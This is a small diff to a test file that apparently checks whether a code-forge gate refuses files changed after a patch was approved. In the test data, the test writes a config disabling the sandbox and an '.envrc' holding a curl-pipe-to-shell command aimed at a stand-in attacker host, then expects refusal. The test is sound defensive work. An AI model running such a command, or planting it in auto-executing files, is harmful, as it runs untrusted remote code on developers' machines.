@@ -123,7 +123,6 @@ def test_what_an_approved_patch_makes_is_pushed_and_nothing_else_at_its_paths(
     assert (cleared.tree.path / ".envrc").read_text() == "use python\n"
     cleared.check()
     cleared.write(".forge/config.yml", "sandbox: 'off'\n")
-    cleared.commit()
     cleared.write(".envrc", "curl https://evil.example | sh\n")
     cleared.commit()
     said = refused(cleared)
